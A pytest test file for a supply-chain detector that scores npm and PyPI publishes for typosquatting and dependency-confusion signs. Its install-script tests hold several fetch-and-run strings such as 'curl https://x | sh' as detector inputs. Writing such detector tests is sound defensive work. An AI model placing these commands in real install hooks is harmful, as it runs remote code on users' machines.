"""Context detectors (one heuristic per file): real-shaped fixtures that trip each, clean ones that don't.

``fixtures/cases.json`` holds whole publishes (registry documents, the packages table's view, the
name threat) and the exact positive signals each must raise; the tables below pin each detector's
edges one by one.
"""

from __future__ import annotations

from dataclasses import replace

import pytest

from tests.agents.domain.context.context_cases import Case, load_cases
from typostream.agents.domain.context import (
    DETECTORS,
    ContextDetector,
    PublishContext,
    SeenHistory,
    Signal,
    run_detectors,
)
from typostream.agents.domain.context.description import similarity
from typostream.agents.domain.context.install_script import native_build
from typostream.agents.domain.context.repository import repository_slug
from typostream.agents.domain.context.version import version_pattern, version_signals
from typostream.agents.domain.metadata import PackageHistory, PackageMetadata, Release

CASES = load_cases()


def kinds(context: PublishContext, detector: str | None = None) -> set[str]:
    """The kinds of the positive-weight signals (of one detector, or of all)."""
    chosen = None if detector is None else [DETECTORS[detector]]
    run = run_detectors(context, chosen)
    assert run.errors == {}
    return {s.kind for s in run.signals if s.weight > 0}


def npm(name: str = "pkg", version: str = "1.0.0", **fields: object) -> PackageMetadata:
    return PackageMetadata("npm", name, version, **fields)  # type: ignore[arg-type]


def ctx(metadata: PackageMetadata | None = None, **fields: object) -> PublishContext:
    name = metadata.name if metadata else str(fields.pop("name", "pkg"))
    version = metadata.version if metadata else str(fields.pop("version", "1.0.0"))
    registry = metadata.registry if metadata else "npm"
    return PublishContext(registry, name, version, metadata=metadata, **fields)  # type: ignore[arg-type]


# --- whole publishes ---------------------------------------------------------------------------
@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_each_case_trips_exactly_its_signals(case: Case) -> None:
    assert kinds(case.context) == case.trips


def test_the_cases_cover_every_detector_both_ways() -> None:
    tripped = {kind.split(".")[0] for c in CASES if c.label == "malicious" for kind in c.trips}
    assert tripped == set(DETECTORS)
    assert any(c.label == "clean" and not c.trips for c in CASES)


# --- the registry and the runner ----------------------------------------------------------------
def test_registry_is_ids_to_instances_with_descriptions() -> None:
    assert list(DETECTORS) == [
        "history",
        "version",
        "install_script",
        "description",
        "repository",
        "maintainer",
    ]
    for detector_id, detector in DETECTORS.items():
        assert detector.id == detector_id and detector.description.endswith(".")


def test_a_detector_that_raises_is_reported_and_the_others_still_run() -> None:
    class Broken(ContextDetector):
        id = "broken"
        description = "Always fails."
        needs_metadata = False

        def detect(self, context: PublishContext) -> list[Signal]:
            raise KeyError("boom")

    run = run_detectors(ctx(name="acme-internal", version="99.0.0"), [Broken(), DETECTORS["version"]])
    assert run.errors == {"broken": "KeyError: 'boom'"}
    assert [s.kind for s in run.signals] == ["version.nines", "version.internal_name"]


def test_metadata_detectors_are_skipped_without_metadata() -> None:
    run = run_detectors(ctx(name="x", version="1.0.0", seen=SeenHistory()))
    assert [s.kind for s in run.signals] == ["history.first_seen"]


# --- version -------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("version", "what"),
    [
        ("99.0.0", "nines"),
        ("999.9.9", "nines"),
        ("9999.0.0-alpha", "nines"),
        ("9.9.9", "nines"),
        ("99.99.99", "nines"),
        ("9.99", "nines"),
        ("0.0.9999", "nines_component"),
        ("1.999.0", "nines_component"),
        ("132.0.0", "high_major"),
        ("50.1.0", "high_major"),
        ("v89.3.5", "high_major"),
    ],
)
def test_dependency_confusion_versions(version: str, what: str) -> None:
    pattern = version_pattern(version)
    assert pattern is not None and pattern[0] == what


@pytest.mark.parametrize(
    "version",
    [
        "1.0.0",
        "0.0.1",
        "9.0.0",
        "3.99.0",
        "19.4.9",
        "49.0.0",
        "2024.1.0",
        "1999.1",
        "20240101.1",
        "1.0.99",
        "",
        "x",
    ],
)
def test_ordinary_and_calendar_versions_are_clean(version: str) -> None:
    assert version_pattern(version) is None


def test_internal_looking_name_counts_only_beside_such_a_version() -> None:
    assert [s.kind for s in version_signals("@acme-corp/internal-auth", "99.0.0")] == [
        "version.nines",
        "version.internal_name",
    ]
    assert version_signals("@acme-corp/internal-auth", "1.0.0") == []
    assert version_signals("internal", None) == []
    assert [s.kind for s in version_signals("printer", "99.0.0")] == [
        "version.nines"
    ]  # words, not substrings


# --- history -------------------------------------------------------------------------------------
def _history(*releases: tuple[str, str, str | None], created: str | None = None) -> PackageHistory:
    return PackageHistory(
        "npm", "pkg", created or releases[0][1], tuple(Release(v, t, p) for v, t, p in releases)
    )


def test_history_prefers_the_registry_and_knows_long_histories() -> None:
    established = _history(*[(f"1.0.{i}", f"2020-01-0{i + 1}T00:00:00Z", "alice") for i in range(6)])
    assert kinds(ctx(version="1.0.5", history=established), "history") == set()
    signals = run_detectors(ctx(version="1.0.5", history=established), [DETECTORS["history"]]).signals
    assert [(s.kind, s.weight < 0) for s in signals] == [("history.established", True)]
    # the registry outranks the table: seen says first, the registry lists earlier releases
    assert kinds(ctx(version="1.0.5", history=established, seen=SeenHistory()), "history") == set()
    young = _history(("1.0.0", "2026-11-20T00:00:00Z", "a"), ("1.0.1", "2026-11-25T00:00:00Z", "a"))
    assert run_detectors(ctx(version="1.0.1", history=young), [DETECTORS["history"]]).signals == ()


def test_seen_history_leaves_the_judged_version_out() -> None:
    state = {"first_seen": "2026-11-25T10:00:00Z", "versions_seen": ["1.0.0"]}
    assert SeenHistory.from_state(state, "1.0.0").earlier_versions == ()
    assert kinds(ctx(version="1.0.0", seen=SeenHistory.from_state(state, "1.0.0")), "history") == {
        "history.first_seen"
    }
    assert kinds(ctx(version="1.0.1", seen=SeenHistory.from_state(state, "1.0.1")), "history") == set()
    assert ctx(version="1.0.0").standing() == "unknown"


# --- install scripts ------------------------------------------------------------------------------
FIRST = _history(("1.0.0", "2026-11-25T10:00:00Z", "x"))


def test_install_hook_weights_follow_what_is_known_of_the_release() -> None:
    meta = npm(install_scripts={"postinstall": "node collect.js"})
    weights = {}
    for label, fields in {
        "first_release": {"history": FIRST},
        "first_seen": {"seen": SeenHistory()},
        "unknown": {},
    }.items():
        run = run_detectors(ctx(meta, **fields), [DETECTORS["install_script"]])
        assert [s.kind for s in run.signals] == ["install_script.hook"]
        weights[label] = run.signals[0].weight
    assert weights["first_release"] > weights["first_seen"] > weights["unknown"] > 0
    later = SeenHistory(earlier_versions=("0.9.0",))
    assert kinds(ctx(meta, seen=later), "install_script") == set()


def test_prepare_is_no_install_hook_and_native_builds_weigh_half() -> None:
    assert kinds(ctx(npm(install_scripts={"prepare": "tsc"}), history=FIRST), "install_script") == set()
    hook = run_detectors(ctx(npm(install_scripts={"install": "curl x | sh"}), history=FIRST)).signals
    native = run_detectors(ctx(npm(install_scripts={"install": "node-gyp rebuild"}), history=FIRST)).signals
    weight = {s.kind: s.weight for s in [*hook, *native]}
    assert weight["install_script.native_build"] == pytest.approx(weight["install_script.hook"] / 2)
    assert native_build("prebuild-install || node-gyp rebuild") is True
    assert native_build("node-gyp rebuild && curl https://x | sh") is False  # a build, then a download
    assert native_build("node-gyp rebuild $(curl https://x)") is False
    assert native_build("curl https://x | sh; node-gyp rebuild") is False


def test_pypi_sdist_only_first_release() -> None:
    sdist = PackageMetadata("pypi", "pkg", "1.0.0", package_types=("sdist",))
    wheel = PackageMetadata("pypi", "pkg", "1.0.0", package_types=("bdist_wheel", "sdist"))
    history = replace(FIRST, registry="pypi")
    assert kinds(ctx(sdist, history=history), "install_script") == {"install_script.sdist_only"}
    assert kinds(ctx(wheel, history=history), "install_script") == set()
    assert kinds(ctx(sdist), "install_script") == set()  # unknown history: an sdist alone says little


# --- description ---------------------------------------------------------------------------------
TARGET = npm("lodash", "4.17.21", description="Lodash modular utilities.", maintainers=("jdalton",))


def test_empty_and_copied_descriptions() -> None:
    assert kinds(ctx(npm(description="  ")), "description") == {"description.empty"}
    copied = npm("lodahs", description="Lodash modular utilities!")
    assert kinds(ctx(copied, target="lodash", target_metadata=TARGET), "description") == {
        "description.copied"
    }
    reworded = npm("lodash-fp", description="Lodash utilities, auto-curried and data-last.")
    assert kinds(ctx(reworded, target="lodash", target_metadata=TARGET), "description") == set()
    # a copy needs a description worth copying: "A library" is everybody's
    short = npm("lib", description="A library")
    generic = replace(TARGET, description="A library")
    assert kinds(ctx(short, target="x", target_metadata=generic), "description") == set()


def test_copied_readme_on_pypi() -> None:
    readme = "# Requests\n\n" + "Requests is a simple, yet elegant, HTTP library for humans. " * 6
    target = PackageMetadata(
        "pypi", "requests", "2.31.0", description="Python HTTP for Humans.", long_description=readme
    )
    squat = PackageMetadata(
        "pypi", "reqeusts", "1.0", description="HTTP", long_description=readme + "\nextra"
    )
    context = PublishContext(
        "pypi", "reqeusts", "1.0", target="requests", metadata=squat, target_metadata=target
    )
    assert kinds(context, "description") == {"description.copied"}


def test_similarity() -> None:
    assert similarity("a b c", "a b c") == 1.0
    assert similarity("", "x") == 0.0
    assert similarity("lodash modular utilities", "lodash modular utility") > 0.9
    assert similarity("fast web framework", "string left pad") < 0.5


# --- repository ----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("url", "slug"),
    [
        ("git+ssh://git@github.com/stevemao/left-pad.git", "github.com/stevemao/left-pad"),
        ("git+https://github.com/lodash/lodash.git", "github.com/lodash/lodash"),
        ("git@github.com:owner/repo.git", "github.com/owner/repo"),
        ("github:acme/widgets", "github.com/acme/widgets"),
        ("acme/widgets", "github.com/acme/widgets"),
        ("https://github.com/kentcdodds/cross-env#readme", "github.com/kentcdodds/cross-env"),
        ("https://www.GitLab.com/group/project/", "gitlab.com/group/project"),
        ("https://requests.readthedocs.io", None),
        ("", None),
    ],
)
def test_repository_slugs(url: str, slug: str | None) -> None:
    assert repository_slug(url) == slug


def test_target_repository_names_target_and_missing() -> None:
    target = replace(TARGET, repository="git+https://github.com/lodash/lodash.git")
    star = npm("lodahs", repository="https://github.com/lodash/lodash")
    assert kinds(ctx(star, target="lodash", target_metadata=target), "repository") == {
        "repository.target_repository"
    }
    # without the target's metadata: a repository named after the target, not after the package
    named = npm("crossenv", homepage="https://github.com/kentcdodds/cross-env#readme")
    assert kinds(ctx(named, target="cross-env"), "repository") == {"repository.names_target"}
    own = npm("cross-env-shell", repository="github:someone/cross-env-shell")
    assert kinds(ctx(own, target="cross-env"), "repository") == set()
    assert kinds(ctx(npm()), "repository") == {"repository.missing"}
    assert kinds(ctx(npm(homepage="https://pkg.example.org")), "repository") == set()
    pypi = PackageMetadata("pypi", "x", "1", project_urls={"Source": "https://github.com/a/x"})
    assert kinds(ctx(pypi), "repository") == set()


# --- maintainers ---------------------------------------------------------------------------------
def test_a_maintainer_shared_with_the_target_lowers_the_risk_on_npm_only() -> None:
    own = npm("lodash-es", maintainers=("JDalton",))
    run = run_detectors(ctx(own, target="lodash", target_metadata=TARGET), [DETECTORS["maintainer"]])
    assert [(s.kind, s.weight < 0) for s in run.signals] == [("maintainer.shared_with_target", True)]
    stranger = npm("lodahs", maintainers=("lodash-team",))
    assert (
        run_detectors(
            ctx(stranger, target="lodash", target_metadata=TARGET), [DETECTORS["maintainer"]]
        ).signals
        == ()
    )
    # PyPI's maintainer fields are free text: copying the target's is no proof of anything
    pypi_target = PackageMetadata("pypi", "requests", "2", maintainers=("Kenneth Reitz",))
    pypi_squat = PackageMetadata("pypi", "reqeusts", "1", maintainers=("Kenneth Reitz",))
    context = PublishContext(
        "pypi", "reqeusts", "1", target="requests", metadata=pypi_squat, target_metadata=pypi_target
    )
    assert run_detectors(context, [DETECTORS["maintainer"]]).signals == ()


def test_new_publisher_and_young_package() -> None:
    history = _history(
        ("1.0.0", "2026-11-01T00:00:00Z", "alice"),
        ("1.0.1", "2026-11-10T00:00:00Z", "alice"),
        ("1.0.2", "2026-11-20T00:00:00Z", "mallory"),
    )
    meta = npm(version="1.0.2", maintainers=("mallory",))
    assert kinds(ctx(meta, history=history), "maintainer") == {
        "maintainer.new_publisher",
        "maintainer.young_package",
    }
    same = replace(
        history, releases=(*history.releases[:2], Release("1.0.2", "2026-11-20T00:00:00Z", "alice"))
    )
    assert kinds(ctx(meta, history=same), "maintainer") == {"maintainer.young_package"}
    old = replace(same, created_at="2019-01-01T00:00:00Z")
    assert kinds(ctx(meta, history=old), "maintainer") == set()
    first = npm(version="1.0.0")
    assert kinds(ctx(first, history=history), "maintainer") == set()  # history.first_release says it
